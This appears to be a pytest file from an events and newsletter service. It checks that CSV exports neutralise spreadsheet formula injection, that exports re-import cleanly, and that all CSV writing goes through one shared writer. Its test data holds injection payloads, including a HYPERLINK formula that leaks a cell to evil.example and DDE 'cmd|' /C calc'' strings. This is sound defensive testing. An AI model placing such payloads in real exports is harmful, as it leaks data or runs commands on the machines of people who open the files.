"""Spreadsheet formula injection (issue 13, AC5): every CSV export, through the API and the workspace, goes
through the one writer (`shared.csvfile`), so no cell starts with `=`, `+`, `-`, `@`, tab or CR.

Hostile values are written into every free field a person can fill (straight into the rows, so input
validation does not hide a gap in the writer), then every cell of every export is checked: a hostile value
comes out with a leading apostrophe, and no other cell starts like a formula. The subscriber export still
imports back unchanged.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterator

import pytest
import sqlalchemy as sa
from flask import Flask
from werkzeug.test import Client

from services.events.models import FeedbackResponse, Registration
from services.events.models import db as events_db
from services.subscriptions.models import db as subscriptions_db
from services.subscriptions.subscribers.models import Subscriber
from shared.csvfile import BOM, FORMULA_STARTS
from tests.events.factories import make_event, register
from tests.subscriptions.conftest import make_subscriber
from tests.web.conftest import log_in, make_user

HOSTILE = ["=HYPERLINK(\"https://evil.example/?\"&A1;\"klik\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
HOSTILE_EMAILS = ["=hyperlink@example.fi", "+cmd@example.fi", "-2+3@example.fi"]
NUMBER = re.compile(r"^-?\d+([.,]\d+)?$")
QUESTIONS = [{"key": "wish", "type": "text", "label": {"fi": "Toive"}},
             {"key": "topic", "type": "single", "label": {"fi": "Aihe"},
              "options": [{"value": "a", "label": {"fi": "A"}}, {"value": "b", "label": {"fi": "B"}}]},
             {"key": "lunch", "type": "yes-no", "label": {"fi": "Lounas"}}]
FEEDBACK_QUESTIONS = [{"key": "overall", "type": "rating", "label": {"fi": "Kokonaisuus"}},
                      {"key": "comments", "type": "text", "label": {"fi": "Kommentit"}}]


def cells(response_text: str) -> list[list[str]]:
    assert response_text.startswith(BOM)
    return list(csv.reader(io.StringIO(response_text.removeprefix(BOM), newline=""), delimiter=";"))


def unsafe_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run as a formula (a plain number such as -2 is data, not a formula)."""
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and not NUMBER.match(cell)]


def hostile(n: int) -> str:
    return HOSTILE[n % len(HOSTILE)]


def assert_neutralised(text: str, expected: list[str]) -> list[list[str]]:
    rows = cells(text)
    assert unsafe_cells(rows) == []
    flat = {cell for row in rows for cell in row}
    missing = [value for value in expected if "'" + value not in flat]
    assert missing == [], f"not exported with an apostrophe: {missing}"
    return rows


@pytest.fixture
def workspace(apps: dict[str, Flask], client: Client) -> Callable[[str], Client]:
    def login(prefix: str) -> Client:
        response = log_in(client, prefix, make_user("koordinaattori@example.fi", "coordinator"))
        assert response.status_code == 302, response.get_data(as_text=True)
        return client

    return login


# --- events: registrations and feedback -------------------------------------------------------------

def hostile_event(events_app: Flask) -> int:
    """An event with two registrations whose every free field holds a formula, and their feedback."""
    event = make_event(events_app, questions=QUESTIONS, feedback_questions=FEEDBACK_QUESTIONS)
    for n, address in enumerate(HOSTILE_EMAILS[:2]):
        registration = register(events_app, event.id, address, name=f"Nimi {n}")
        with events_app.app_context(), events_db.transaction() as session:
            row = session.get_one(Registration, registration.id)
            row.name, row.organisation, row.dietary_needs, row.accessibility_needs = (hostile(n + i) for i in range(4))
            row.answers = {"wish": hostile(n + 4), "topic": hostile(n + 5), "lunch": True}
            session.add(FeedbackResponse(event_id=event.id, registration_id=row.id,
                                         ratings={"overall": hostile(n + 1)}, texts={"comments": hostile(n + 2)}))
    return event.id


def _planted(events_app: Flask, export: str) -> list[str]:
    """The hostile values the rows hold in this export's columns."""
    with events_app.app_context(), events_db.transaction() as session:
        if "feedback" in export:
            values = [str(v) for r in session.scalars(sa.select(FeedbackResponse))
                      for v in (*r.ratings.values(), *r.texts.values())]
        else:
            values = [str(v) for r in session.scalars(sa.select(Registration))
                      for v in (r.name, r.email, r.organisation, r.dietary_needs, r.accessibility_needs,
                                *r.answers.values())]
    return [value for value in values if value.startswith(FORMULA_STARTS)]


def test_event_exports_neutralise_every_field(apps, client, admin_headers, workspace):
    event_id = hostile_event(apps["events"])
    exports = {
        "api registrations": client.get(f"/events/api/v1/events/{event_id}/registrations.csv",
                                        headers=admin_headers("organizer")),
        "api feedback": client.get(f"/events/api/v1/events/{event_id}/feedback.csv",
                                   headers=admin_headers("organizer")),
    }
    logged_in = workspace("/events")
    exports["workspace registrations"] = logged_in.get(f"/events/admin/events/{event_id}/registrations.csv")
    exports["workspace feedback"] = logged_in.get(f"/events/admin/events/{event_id}/feedback.csv")
    for name, response in exports.items():
        assert response.status_code == 200, (name, response.get_data(as_text=True)[:300])
        assert response.mimetype == "text/csv", name
        planted = _planted(apps["events"], name)
        assert len(planted) == (4 if "feedback" in name else 14), (name, planted)
        rows = assert_neutralised(response.get_data(as_text=True), planted)
        assert len(rows) == 3, name  # the header and two people


# --- subscribers -------------------------------------------------------------------------------------

def hostile_subscribers() -> list[tuple[str, str, str]]:
    made = []
    for n, address in enumerate(HOSTILE_EMAILS):
        values = (address, hostile(n), hostile(n + 3))
        make_subscriber(address, name=values[1])
        with subscriptions_db.transaction() as session:
            session.scalars(sa.select(Subscriber).where(Subscriber.email == address)).one().organisation = values[2]
        made.append(values)
    return made


def test_subscriber_exports_neutralise_every_field_and_import_back(apps, client, admin_headers, workspace):
    made = hostile_subscribers()
    planted = [value for values in made for value in values]
    api = client.get("/newsletter/api/v1/subscribers/export.csv", headers=admin_headers("coordinator"))
    page = workspace("/newsletter").get("/newsletter/admin/subscribers/export.csv")
    for response in (api, page):
        assert response.status_code == 200, response.get_data(as_text=True)[:300]
        assert_neutralised(response.get_data(as_text=True), planted)

    # The file imports back: the apostrophes come off again.
    with subscriptions_db.transaction() as session:
        session.execute(sa.delete(Subscriber))
    report = client.post("/newsletter/api/v1/subscribers/import", data=api.get_data(),
                         headers={**admin_headers("coordinator"), "Content-Type": "text/csv"})
    assert report.status_code == 200, report.get_data(as_text=True)
    assert report.get_json()["created"] == len(made), report.get_json()
    with subscriptions_db.transaction() as session:
        back = {(s.email, s.name, s.organisation) for s in session.scalars(sa.select(Subscriber))}
    assert back == {tuple(value.strip() for value in values) for values in made}  # the importer trims spaces


# --- every export goes through the one writer -------------------------------------------------------

def _python_sources() -> Iterator[tuple[str, str]]:
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    for path in sorted((root / "services").rglob("*.py")):
        if "migrations" not in path.parts:
            yield str(path.relative_to(root)), path.read_text(encoding="utf-8")


def test_no_service_writes_csv_but_through_the_shared_writer():
    writers = [name for name, text in _python_sources()
               if re.search(r"csv\.(writer|DictWriter)\(", text) or "text/csv\", headers" in text]
    assert writers == []
    exporting = sorted({name for name, text in _python_sources() if "csv_response(" in text})
    assert exporting == ["services/events/api.py", "services/events/pages/exports.py",
                         "services/subscriptions/subscribers/api.py",
                         "services/subscriptions/subscribers/pages/exports.py"]
